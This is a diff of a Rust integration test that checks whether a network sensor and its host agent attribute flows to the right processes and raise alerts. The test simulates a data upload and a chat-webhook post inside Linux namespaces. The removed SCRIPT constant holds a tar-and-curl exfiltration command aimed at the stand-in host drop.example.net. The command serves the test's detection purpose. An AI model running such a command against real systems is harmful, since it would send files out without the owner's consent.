@@ -1,6 +1,7 @@
 //! From real programs on a host with `tapir agent` to rows and alerts of a live sensor that name
 //! them: two network namespaces, a mirror port, mutual TLS between agent and sensor.
 //!
+//! The host's peers are not there: the sensor has learned of them from a recorded morning.
 //! Who has which flow is known here from the programs themselves. Needs root and a few Debian
 //! packages; without them it says what is missing and passes.
 #![cfg(target_os = "linux")]
@@ -8,10 +9,15 @@
 #![allow(clippy::print_stdout, clippy::print_stderr)]
 
 mod namespaces;
+#[path = "attribution_live/programs.rs"]
+mod programs;
+#[path = "attribution_live/yesterday.rs"]
+mod yesterday;
 
 use namespaces::{Network, done, end, inside, ip, link, mirror, wait_until};
-use serde_json::Value;
-use std::collections::BTreeMap;
+use programs::{NODE, PAPERS_BYTES, POSTS, PYTHON, REPORT, SCRIPT, SERVER, TAKER};
+use serde_json::{Value, json};
+use std::collections::{BTreeMap, BTreeSet};
 use std::fs;
 use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
@@ -23,92 +29,22 @@ const NEEDED: &[&str] = &[
 ];
 const HOST: &str = "tapir-attr-h";
 const SENSOR: &str = "tapir-attr-s";
+const ROLES: &str = include_str!("../fixtures/webhook/tapir.toml");
 /// Flows of one second and more that each program has, and of 50 ms.
 const LONG: usize = 40;
 const SHORT: usize = 60;
 
-/// Answers after as many milliseconds as the path says.
-const SERVER: &str = "
-import time
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-class Slow(BaseHTTPRequestHandler):
-    def do_GET(self):
-        time.sleep(int(self.path[1:]) / 1000)
-        self.send_response(200)
-        self.send_header('Content-Length', '2')
-        self.end_headers()
-        self.wfile.write(b'ok')
-    def log_message(self, *_):
-        pass
-class Server(ThreadingHTTPServer):
-    request_queue_size = 256
-Server(('10.98.0.2', 8080), Slow).serve_forever()
-";
-
-/// Says the local port of each of its flows.
-const PYTHON: &str = "
-import http.client, sys
-for _ in range(int(sys.argv[2])):
-    c = http.client.HTTPConnection('10.98.0.2', 8080)
-    c.connect()
-    print(c.sock.getsockname()[1], flush=True)
-    c.request('GET', '/' + sys.argv[1])
-    c.getresponse().read()
-    c.close()
-";
-
-/// The same.
-const NODE: &str = "
-const http = require('http');
-const [delay, count] = process.argv.slice(1).map(Number);
-const call = left => left > 0 && http
-  .get({host: '10.98.0.2', port: 8080, path: '/' + delay, agent: false}, answer => {
-    answer.resume();
-    answer.on('end', () => call(left - 1));
-  })
-  .on('socket', socket => socket.on('connect', () => console.log(socket.localPort)));
-call(count);
-";
-
-/// Takes what is uploaded.
-const TAKER: &str = "
-import ssl, sys
-from http.server import BaseHTTPRequestHandler, HTTPServer
-class Taker(BaseHTTPRequestHandler):
-    def do_PUT(self):
-        left = int(self.headers['Content-Length'])
-        while left > 0:
-            left -= len(self.rfile.read(min(left, 65536)))
-        self.send_response(200)
-        self.send_header('Content-Length', '0')
-        self.end_headers()
-    def log_message(self, *_):
-        pass
-server = HTTPServer(('198.51.100.2', 443), Taker)
-context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-context.load_cert_chain(sys.argv[1])
-server.socket = context.wrap_socket(server.socket, server_side=True)
-server.serve_forever()
-";
-
-/// Packs what is in a folder and uploads it, with a certificate that the sensor can see.
-const SCRIPT: &str = "
-tar -cf \"$1/out.tar\" -C \"$1\" papers
-curl -sk --tls-max 1.2 --limit-rate 20M --expect100-timeout 0.1 --resolve drop.example.net:443:198.51.100.2 \\
-  -T \"$1/out.tar\" https://drop.example.net/
-true
-";
-/// What is packed.
-const PAPERS_BYTES: usize = 60 << 20;
-
 /// Two hosts, a mirror port at the second, and somewhere outside.
 fn set_up(network: &mut Network, folder: &Path) {
-    link([(HOST, "c0", "10.98.0.1/24"), (SENSOR, "s0", "10.98.0.2/24")]);
+    let host = format!("{}/24", yesterday::SERVER);
+    link([(HOST, "c0", &host), (SENSOR, "s0", "10.20.0.1/24")]);
     for space in [HOST, SENSOR] {
         ip(&format!("-n {space} link set lo up"));
     }
-    ip(&format!("-n {SENSOR} addr add 198.51.100.2/24 dev s0"));
-    ip(&format!("-n {HOST} route add default via 10.98.0.2"));
+    for address in ["10.98.0.2/24", "198.51.100.2/24"] {
+        ip(&format!("-n {SENSOR} addr add {address} dev s0"));
+    }
+    ip(&format!("-n {HOST} route add default via 10.20.0.1"));
     mirror(SENSOR, "s0");
     let path = |name: &str| folder.join(name).to_str().unwrap().to_owned();
     let (key, certificate) = (path("drop.key"), path("drop.pem"));
@@ -140,17 +76,18 @@ fn set_up(network: &mut Network, folder: &Path) {
 /// Sensor and agent, that have found each other.
 fn watch(network: &mut Network, folder: &Path) {
     let path = |name: &str| folder.join(name).to_str().unwrap().to_owned();
-    let config = format!(
+    let intake = format!(
         "[intake]\nlisten = \"10.98.0.2:8443\"\nnames = [\"10.98.0.2\"]\ndir = \"{}\"\n",
         path("intake")
     );
-    fs::write(path("tapir.toml"), config).unwrap();
+    fs::write(path("tapir.toml"), ROLES.to_owned() + &intake).unwrap();
+    yesterday::learn(folder, &path("tapir.toml"));
     let enrol = ["agents", "--dir", &path("intake"), "enrol", "host1"];
     let identity = Command::new(TAPIR).args(enrol).output().unwrap();
     assert!(identity.status.success());
     fs::write(path("host1.pem"), identity.stdout).unwrap();
 
-    let (config, logs) = (path("tapir.toml"), path("logs"));
+    let (config, logs, state) = (path("tapir.toml"), path("logs"), path("state"));
     let run = [
         TAPIR,
         "run",
@@ -162,6 +99,8 @@ fn watch(network: &mut Network, folder: &Path) {
         &config,
         "--log-dir",
         &logs,
+        "--state",
+        &state,
     ];
     let sensor = inside(SENSOR, &run).stdout(Stdio::null()).spawn().unwrap();
     let (identity, spool, watched) = (path("host1.pem"), path("spool"), path("home"));
@@ -189,7 +128,8 @@ fn watch(network: &mut Network, folder: &Path) {
 }
 
 /// Whose each flow is, by its local port, and whether it lasts a second.
-type Truth = BTreeMap<u64, (u64, bool)>;
+/// A port may be another program's later.
+type Truth = BTreeMap<u64, Vec<(u64, bool)>>;
 
 /// Runs programs whose output is their local ports, some at a time; a pause after each group.
 fn call(truth: &mut Truth, programs: &[Vec<String>], is_long: bool) {
@@ -204,7 +144,8 @@ fn call(truth: &mut Truth, programs: &[Vec<String>], is_long: bool) {
         assert!(out.status.success());
         let text = String::from_utf8(out.stdout).unwrap();
         for port in text.lines() {
-            truth.insert(port.parse().unwrap(), (pid, is_long));
+            let calls = truth.entry(port.parse().unwrap()).or_default();
+            calls.push((pid, is_long));
         }
     }
 }
@@ -253,6 +194,15 @@ fn call_all() -> Truth {
     truth
 }
 
+/// A script calls a chat's webhook; gives the number of its shell.
+fn report() -> u32 {
+    let posts = POSTS.to_string();
+    let mut shell = inside(HOST, &["bash", "-c", REPORT, "report", &posts]);
+    let mut shell = shell.stdout(Stdio::null()).spawn().unwrap();
+    assert!(shell.wait().unwrap().success());
+    shell.id()
+}
+
 /// A script packs and uploads.
 fn exfiltrate(folder: &Path) {
     let home = folder.join("home");
@@ -265,11 +215,11 @@ fn exfiltrate(folder: &Path) {
     done(inside(HOST, &["bash", "-c", SCRIPT, "script", home]));
 }
 
-/// The alert names who uploaded, its parent and the archive.
-fn check_upload(folder: &Path) {
-    let alerts = rows(folder.join("logs/alerts.log"));
-    let mut uploads = alerts.iter().filter(|alert| alert["analytic"] == "AN1415");
-    let alert = uploads.next_back().expect("an alert on the upload");
+/// The last word on this analytic: an alert that names curl and the shell that started it.
+fn named_alert(folder: &Path, analytic: &str) -> Value {
+    let mut alerts = rows(folder.join("logs/alerts.log"));
+    alerts.retain(|alert| alert["analytic"] == analytic);
+    let alert = alerts.pop().expect(analytic);
     let process = &alert["subject"]["process"];
     assert_eq!(
         process["path"].as_str().map(file_name),
@@ -278,16 +228,37 @@ fn check_upload(folder: &Path) {
     );
     let parent = process["parent"]["path"].as_str();
     assert_eq!(parent.map(file_name), Some("bash"), "{alert}");
-    let evidence = alert["evidence"].as_array().unwrap();
-    let of = |id: &str| evidence.iter().find(|item| item["id"] == id);
+    alert
+}
+
+fn evidence<'a>(alert: &'a Value, id: &str) -> &'a Value {
+    let items = alert["evidence"].as_array().unwrap();
+    let item = items.iter().find(|item| item["id"] == id);
+    item.unwrap_or_else(|| panic!("{id} in {alert}"))
+}
+
+/// The alert names who calls the chat, and says that no peer does.
+fn check_report(folder: &Path, pid: u32) {
+    let alert = named_alert(folder, "AN1190");
+    let process = &alert["subject"]["process"];
+    assert_eq!(process["parent"]["pid"], pid, "{alert}");
+    assert_eq!(alert["object"]["service"], "discord");
+    let rarity = &evidence(&alert, "role.service_rarity")["observed"];
+    assert_eq!(*rarity, json!({"hosts_role_using": 0, "hosts_role": 24}));
+    evidence(&alert, "endpoint.parent");
+}
+
+/// The alert names who uploaded, its parent and the archive.
+fn check_upload(folder: &Path) {
+    let alert = named_alert(folder, "AN1415");
     for id in [
         "endpoint.archive",
         "endpoint.archive_size",
         "endpoint.archive_kin",
     ] {
-        assert!(of(id).is_some(), "{id} in {alert}");
+        evidence(&alert, id);
     }
-    let archive = &of("endpoint.archive").unwrap()["observed"];
+    let archive = &evidence(&alert, "endpoint.archive")["observed"];
     assert_eq!(archive["path"].as_str().map(file_name), Some("out.tar"));
     assert_eq!(alert["tier"], "high");
 }
@@ -297,9 +268,43 @@ fn file_name(path: &str) -> &str {
 }
 
 fn rows(path: PathBuf) -> Vec<Value> {
-    let text = fs::read_to_string(&path).unwrap_or_else(|error| panic!("{path:?}: {error}"));
+    let text = fs::read_to_string(&path).unwrap_or_default();
     let rows = text.lines().map(|line| serde_json::from_str(line).unwrap());
     rows.collect()
+}
+
+/// How many flows have the right process, and how many there are: of a second, and of 50 ms. None
+/// has a wrong one.
+fn judge(truth: &Truth, rows: Vec<Value>) -> ([usize; 2], [usize; 2]) {
+    let mut seen: BTreeMap<u64, BTreeMap<String, Value>> = BTreeMap::new();
+    for row in rows.into_iter().filter(|row| row["id.resp_p"] == 8080) {
+        let of_port = seen.entry(row["id.orig_p"].as_u64().unwrap()).or_default();
+        // The last word on the flow.
+        of_port.insert(row["uid"].as_str().unwrap().to_owned(), row);
+    }
+    let (mut right, mut all) = ([0, 0], [0, 0]);
+    let kind = |is_long: bool| usize::from(!is_long);
+    for (port, calls) in truth {
+        let rows = seen.remove(port).unwrap_or_default();
+        assert_eq!(
+            rows.len(),
+            calls.len(),
+            "flows of port {port} that were seen"
+        );
+        let mut left = calls.clone();
+        for row in rows.values().filter(|row| row["status"] == "matched") {
+            let who = left.iter().position(|(pid, _)| row["pid"] == *pid);
+            let (_, is_long) = left.remove(who.unwrap_or_else(|| panic!("wrong: {row}")));
+            right[kind(is_long)] += 1;
+        }
+        for (_, is_long) in calls {
+            all[kind(*is_long)] += 1;
+        }
+        if !left.is_empty() {
+            println!("port {port}, without its process: {left:?}");
+        }
+    }
+    (right, all)
 }
 
 #[test]
@@ -312,34 +317,22 @@ fn flows_of_real_programs_are_attributed_to_the_process_that_has_them() {
     set_up(&mut network, folder.path());
     watch(&mut network, folder.path());
     let truth = call_all();
+    let shell = report();
     exfiltrate(folder.path());
-    // The upload's flow is over, and what the agent says of it is there.
-    std::thread::sleep(Duration::from_secs(8));
+    // A flow has its row a minute after it began.
+    let told = || {
+        let rows = rows(folder.path().join("logs/attribution.log"));
+        let of_scripts = rows.iter().filter(|row| row["id.resp_p"] == 443);
+        let flows: BTreeSet<&str> = of_scripts.filter_map(|row| row["uid"].as_str()).collect();
+        flows.len() == POSTS + 1
+    };
+    wait_until("a row for each flow", told);
     end(network.children.pop().unwrap(), "tapir agent");
     // What the agent delivered last counts a second after it came in.
     std::thread::sleep(Duration::from_secs(2));
     end(network.children.pop().unwrap(), "tapir run");
 
-    let mut seen = BTreeMap::new();
-    for row in rows(folder.path().join("logs/attribution.log")) {
-        if row["id.resp_p"] == 8080 {
-            seen.insert(row["id.orig_p"].as_u64().unwrap(), row);
-        }
-    }
-    let (mut right, mut all) = ([0, 0], [0, 0]);
-    for (port, (pid, is_long)) in &truth {
-        let row = seen
-            .get(port)
-            .unwrap_or_else(|| panic!("flow {port} was not seen"));
-        let kind = usize::from(!is_long);
-        all[kind] += 1;
-        if row["status"] == "matched" {
-            assert_eq!(row["pid"], *pid, "wrong: {row}");
-            right[kind] += 1;
-        } else {
-            println!("{} {row}", ["1 s:", "50 ms:"][kind]);
-        }
-    }
+    let (right, all) = judge(&truth, rows(folder.path().join("logs/attribution.log")));
     println!(
         "of 1 s: {} of {}; of 50 ms: {} of {}",
         right[0], all[0], right[1], all[1]
@@ -357,5 +350,6 @@ fn flows_of_real_programs_are_attributed_to_the_process_that_has_them() {
         right[1],
         all[1]
     );
+    check_report(folder.path(), shell);
     check_upload(folder.path());
 }
